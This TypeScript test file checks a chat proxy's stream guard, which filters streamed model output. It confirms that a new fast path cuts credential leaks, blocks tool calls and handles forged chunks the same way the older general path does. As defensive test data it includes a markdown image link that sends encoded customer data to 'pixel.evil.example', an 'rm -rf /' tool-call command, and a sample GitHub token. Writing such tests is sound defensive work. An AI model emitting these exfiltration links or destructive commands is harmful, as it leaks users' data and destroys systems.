/**
 * Issue 17's fast path in the chat StreamGuard: runs of plain text chunks are judged with one scan and relayed as the
 * upstream's own bytes. These tests hold it to the general path (one scan and one re-serialised chunk per event, the
 * behaviour before the fast path): over seeded random streams mixing prose, every credential sample, exfiltration
 * links, role, tool-call and finish chunks, fed in random byte splits, it releases the same text, tool calls and finish
 * reasons, cuts the same streams, and never releases more than the general path before a cut.
 */
import t from 'tap';
import { StreamGuard, type AccumulatedCall } from '../../src/proxy/chat/stream-guard.js';
import { chunk } from '../helpers/fake-upstream.js';
import { credentialSamples } from './fixtures/credential-samples.js';

interface Outcome {
  text: string;
  cut: boolean;
  finish: string[];
  calls: string[];
  raw: string;
}

function prng(seed: number): () => number {
  return () => {
    seed = (seed + 0x6d2b79f5) | 0;
    let x = Math.imul(seed ^ (seed >>> 15), 1 | seed);
    x = (x + Math.imul(x ^ (x >>> 7), 61 | x)) ^ x;
    return ((x ^ (x >>> 14)) >>> 0) / 4294967296;
  };
}

const sse = (e: unknown) => `data: ${typeof e === 'string' ? e : JSON.stringify(e)}\n\n`;

function read(raw: string): Outcome {
  const out: Outcome = { text: '', cut: false, finish: [], calls: [], raw };
  for (const line of raw.split('\n')) {
    if (!line.startsWith('data: ') || line === 'data: [DONE]') continue;
    const event = JSON.parse(line.slice(6)) as { choices?: { delta?: { content?: string; tool_calls?: { function: { name: string; arguments: string } }[] }; finish_reason?: string | null }[] };
    for (const c of event.choices ?? []) {
      if (typeof c.delta?.content === 'string') out.text += c.delta.content;
      for (const call of c.delta?.tool_calls ?? []) out.calls.push(`${call.function.name}(${call.function.arguments})`);
      if (c.finish_reason) out.finish.push(c.finish_reason);
      if (c.finish_reason === 'content_filter') out.cut = true;
    }
  }
  return out;
}

async function run(feeds: string[], fastPath: boolean): Promise<Outcome> {
  let raw = '';
  const guard = new StreamGuard({
    holdChars: 256,
    maxToolBytes: 1 << 20,
    fastPath,
    write: (text) => (raw += text),
    judgeToolCalls: async (calls: AccumulatedCall[]) => ({ allowed: calls.map((c) => !c.arguments.includes('rm -rf')) }),
    onLeak: (leak) => ({ leak: leak.type }),
  });
  for (const f of feeds) {
    await guard.feed(f);
    if (guard.ended) break;
  }
  if (!guard.ended) await guard.finish();
  return read(raw);
}

const PROSE = ['The report is ready. ', 'Revenue grew 12% (see table 3), ', 'and v2.4.1 shipped on time — 上线顺利。 ', 'See https://docs.python.org/3/library/json.html for details. ', 'Thanks! ', 'password policy: rotate quarterly. '];
const DATA = 'c2VjcmV0LWN1c3RvbWVyLWRhdGEtMTIzNDU2Nzg5MA';
const samples = credentialSamples();

function randomStream(rand: () => number): string[] {
  const pick = <T>(xs: T[]) => xs[Math.floor(rand() * xs.length)];
  let text = '';
  for (let i = 0, n = 1 + Math.floor(rand() * 6); i < n; i++) text += pick(PROSE);
  const r = rand();
  if (r < 0.45) {
    const s = pick(samples);
    text += `${s.before}${s.secret}${s.after} and that is all. `;
  } else if (r < 0.6) text += `Summary: ![s](https://pixel.evil.example/p.png?d=${DATA}) done. `;
  const events: unknown[] = [chunk({ role: 'assistant', content: '' })];
  for (let i = 0; i < text.length; ) {
    const size = 1 + Math.floor(rand() * 12);
    events.push(chunk({ content: text.slice(i, i + size) }));
    i += size;
    if (rand() < 0.03) events.push(chunk({ tool_calls: [{ index: 0, id: 'call_1', type: 'function', function: { name: 'run', arguments: rand() < 0.5 ? '{"cmd":"ls"}' : '{"cmd":"rm -rf /"}' } }] }));
  }
  events.push(chunk({}, rand() < 0.8 ? 'stop' : 'length'), '[DONE]');
  const bytes = events.map(sse).join('');
  // Feeds as the network might deliver them: one event at a time, everything at once, or random byte splits.
  const mode = rand();
  if (mode < 0.25) return events.map(sse);
  if (mode < 0.4) return [bytes];
  const feeds: string[] = [];
  for (let i = 0; i < bytes.length; ) {
    const size = 1 + Math.floor(rand() * 400);
    feeds.push(bytes.slice(i, i + size));
    i += size;
  }
  return feeds;
}

t.test('over 600 seeded random streams the fast path releases what the general path releases', async (t) => {
  const rand = prng(17);
  let cuts = 0;
  let fewer = 0;
  for (let i = 0; i < 600; i++) {
    const feeds = randomStream(rand);
    const reference = await run(feeds.join('').split(/(?<=\n\n)/), false);
    const fast = await run(feeds, true);
    if (fast.cut !== reference.cut) t.fail(`stream ${i}: cut ${fast.cut} on the fast path, ${reference.cut} on the general path`);
    if (reference.cut) {
      cuts++;
      // Never more text before a cut than the general path released (a run is judged whole before any of it goes out).
      if (!reference.text.startsWith(fast.text)) t.fail(`stream ${i}: the fast path released text the general path did not`);
      if (fast.text.length < reference.text.length) fewer++;
    } else {
      if (fast.text !== reference.text) t.fail(`stream ${i}: released text differs`);
      if (fast.finish.join() !== reference.finish.join()) t.fail(`stream ${i}: finish reasons differ`);
    }
    if (fast.calls.join('|') !== reference.calls.join('|')) t.fail(`stream ${i}: tool calls differ`);
  }
  t.ok(cuts > 200, `${cuts} of 600 streams carried a leak and were cut on both paths`);
  t.comment(`${fewer} cut streams released less text on the fast path than on the general path`);
});

t.test('a plain text chunk passes as the upstream bytes; a held word goes out as one re-serialised chunk', async (t) => {
  const plain = sse({ ...chunk({ content: 'Hello there. ' }), system_fingerprint: 'fp_1', obfuscation: 'x9' });
  const fast = await run([plain, sse(chunk({}, 'stop')), sse('[DONE]')], true);
  t.ok(fast.raw.startsWith(plain), 'the chunk went out byte for byte, fields Bastion does not know included');
  const split = await run([sse(chunk({ content: 'Hel' })) + sse(chunk({ content: 'lo wor' })), sse(chunk({ content: 'ld. ' })), sse(chunk({}, 'stop')), sse('[DONE]')], true);
  t.equal(split.text, 'Hello world. ', 'the text is whole');
  t.notOk(split.raw.includes('"content":"lo wor"'), 'the run ending inside a word was re-cut at the word boundary');
});

t.test('a chunk naming a key twice is never relayed as bytes: clients that keep the first duplicate see what was judged', async (t) => {
  const secret = 'ghp_' + 'R7xK2mQ9vL4nP8sT1wY6zB3cD5fH0jA2gE4i';
  const forged = `data: {"id":"c","choices":[{"index":0,"delta":{"content":"${secret} "}}],"choices":[{"index":0,"delta":{"content":"fine. "}}]}\n\n`;
  const out = await run([forged, sse('[DONE]')], true);
  t.notOk(out.raw.includes(secret), 'the shadowed secret never reaches the client');
  t.equal(out.text, 'fine. ', 'the text that was judged is what goes out');
});

t.test('chunks that are not plain text take the general path', async (t) => {
  const withRole = sse(chunk({ role: 'assistant', content: 'Hi. ' }));
  const withRefusal = sse(chunk({ content: 'Hi. ', refusal: null }));
  const withLogprobs = sse({ ...chunk({ content: 'Hi. ' }), choices: [{ index: 0, delta: { content: 'Hi. ' }, logprobs: { content: [] }, finish_reason: null }] });
  for (const [name, event] of [['role', withRole], ['refusal', withRefusal], ['logprobs', withLogprobs]] as const) {
    const out = await run([event, sse('[DONE]')], true);
    t.notOk(out.raw.startsWith(event), `${name}: re-serialised by the general path`);
    t.equal(out.text, 'Hi. ', `${name}: its text still goes out`);
  }
});
